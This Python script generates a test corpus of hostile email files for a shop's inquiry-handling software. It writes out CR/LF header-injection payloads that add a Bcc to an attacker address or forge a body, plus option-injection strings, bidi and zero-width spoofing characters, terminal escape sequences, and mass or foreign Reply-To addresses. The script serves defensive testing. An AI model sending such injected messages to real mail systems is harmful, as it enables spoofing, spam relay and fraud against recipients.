"""Writes the hostile corpus (tests/hostile/*.eml) the way attackers write such mail: by hand,
byte for byte. Run it after changing a sample (from the repository root):

    .venv/bin/python -m tests.hostile.make_corpus

The .eml files are committed; tests read them through tests/hostile/__init__.py. The encoders
are the independent ones of tests/support/mailcorpus.py, never the product's.
"""

from __future__ import annotations

from pathlib import Path

from tests.support.mailcorpus import b_word, iso2022jp_cp932

HERE = Path(__file__).resolve().parent
DATE = "Tue, 1 Dec 2026 09:00:00 +0900"
SHOP = "shop@example.test"


def q_word(data: bytes, charset: str = "utf-8") -> str:
    """A Q encoded word with every non-alphanumeric byte escaped."""
    body = "".join(chr(b) if chr(b).isalnum() and b < 0x80 else f"={b:02X}" for b in data)
    return f"=?{charset}?Q?{body}?="


def jis(text: str) -> bytes:
    """ISO-2022-JP bytes in which CR and LF sit in the ASCII runs, as an attacker puts them."""
    return b"\r\n".join(iso2022jp_cp932(piece) for piece in text.split("\r\n"))


def message(
    name: str,
    *,
    subject: str,
    sender: str,
    message_id: str,
    reply_to: str | None = None,
    body: str = "Hello,\r\n\r\nCould you tell me more about this?\r\n",
    charset: str = "utf-8",
) -> tuple[str, bytes]:
    lines = [
        f"From: {sender}",
        f"To: {SHOP}",
        f"Subject: {subject}",
        f"Date: {DATE}",
        f"Message-ID: <{message_id}>",
    ]
    if reply_to is not None:
        lines.append(f"Reply-To: {reply_to}")
    lines += ["MIME-Version: 1.0", f"Content-Type: text/plain; charset={charset}"]
    data = iso2022jp_cp932(body) if charset.lower() == "iso-2022-jp" else body.encode(charset)
    lines.append(f"Content-Transfer-Encoding: {'7bit' if data.isascii() else '8bit'}")
    return name, "\r\n".join(lines).encode("ascii") + b"\r\n\r\n" + data


def samples() -> list[tuple[str, bytes]]:
    crlf_bcc = b"x\r\nBcc: evil@attacker.example"
    ja_crlf = "お問い合わせ\r\nBcc: evil@attacker.example\r\nX-Injected: yes"
    out = [
        # Options where a command line may read them: the subject and the sender name.
        message(
            "option-subject-wait",
            subject="--wait",
            sender='"-w" <opt1@customer.example>',
            message_id="opt-wait@customer.example",
        ),
        message(
            "option-name-help",
            subject="-w --urgency=critical",
            sender='"--help" <opt2@customer.example>',
            message_id="opt-help@customer.example",
        ),
        # CR/LF in encoded words: a Bcc header, and a blank line that would start the body.
        message(
            "crlf-subject-utf8",
            subject=b_word(crlf_bcc, "utf-8"),
            sender="Taro <crlf1@customer.example>",
            message_id="crlf-subject-utf8@customer.example",
        ),
        message(
            "crlf-subject-iso2022jp",
            subject=b_word(jis(ja_crlf), "ISO-2022-JP"),
            sender="Hanako <crlf2@customer.example>",
            message_id="crlf-subject-jis@customer.example",
            body="お世話になっております。\r\n在庫について教えてください。\r\n",
            charset="ISO-2022-JP",
        ),
        message(
            "crlf-name-utf8",
            subject="Order question",
            sender=q_word(b"Taro\r\nBcc: evil@attacker.example") + " <crlf3@customer.example>",
            message_id="crlf-name-utf8@customer.example",
        ),
        message(
            "crlf-name-iso2022jp",
            subject=b_word(iso2022jp_cp932("ご相談"), "ISO-2022-JP"),
            sender=b_word(jis("山田\r\nBcc: evil@attacker.example"), "ISO-2022-JP")
            + " <crlf4@customer.example>",
            message_id="crlf-name-jis@customer.example",
            body="ご相談です。\r\n",
            charset="ISO-2022-JP",
        ),
        message(
            "crlf-body-forgery",
            subject=b_word(b"Refund\r\n\r\nForged body: wire the money", "utf-8"),
            sender="Jiro <crlf5@customer.example>",
            message_id="crlf-body@customer.example",
        ),
        # Bidi overrides, isolates, zero-width and C1 characters, terminal escapes.
        message(
            "bidi-subject-name",
            subject=q_word("Invoice \u202egpj.exe".encode()),
            sender=q_word("BAND\u202e\u2066 Support".encode()) + " <bidi@customer.example>",
            message_id="bidi@customer.example",
        ),
        message(
            "zero-width",
            subject=q_word("Pay\u200bment\u200d due\u2060\ufeff now".encode()),
            sender=q_word("Pay\u200cPal\u200e\u200f\u061c".encode()) + " <zw@customer.example>",
            message_id="zero-width@customer.example",
        ),
        message(
            "c1-and-escapes",
            subject=b_word("Status\x85\x9b31m\x1b[2J\x1b]0;owned\x07 report".encode(), "utf-8"),
            sender=b_word("Eve\x1b[8m\u2028\u2029".encode(), "utf-8") + " <c1@customer.example>",
            message_id="c1@customer.example",
        ),
        # Where the reply goes: 300 addresses, a stranger's domain, a real form sender.
        message(
            "reply-to-300",
            subject="Quick question",
            sender="Mallory <mallory@customer.example>",
            message_id="reply-to-300@customer.example",
            reply_to=",\r\n ".join(f"victim{i:03d}@victims{i % 7}.example" for i in range(300)),
        ),
        message(
            "reply-to-other-domain",
            subject="Question about my order",
            sender="Customer <customer@customer.example>",
            message_id="reply-to-other@customer.example",
            reply_to="collector@attacker.example",
        ),
        message(
            "reply-to-form-sender",
            subject=b_word("お問い合わせフォームより".encode(), "utf-8"),
            sender="formrun <noreply@form.run>",
            message_id="form@form.run",
            reply_to="visitor@visitor.example",
            body="フォームからのお問い合わせです。\r\n",
        ),
        # A megabyte subject.
        message(
            "subject-1mb",
            subject="Order " + "A" * (1024 * 1024),
            sender="Big <big@customer.example>",
            message_id="subject-1mb@customer.example",
        ),
        # Two different inquiries that share one Message-ID.
        message(
            "shared-id-first",
            subject="First question",
            sender="Alice <alice@customer.example>",
            message_id="shared@customer.example",
        ),
        message(
            "shared-id-second",
            subject="Second, different question",
            sender="Bob <bob@other-customer.example>",
            message_id="shared@customer.example",
        ),
    ]
    return out


def main() -> None:
    for name, raw in samples():
        (HERE / f"{name}.eml").write_bytes(raw)
        print(f"{name}.eml  {len(raw)} bytes")


if __name__ == "__main__":
    main()
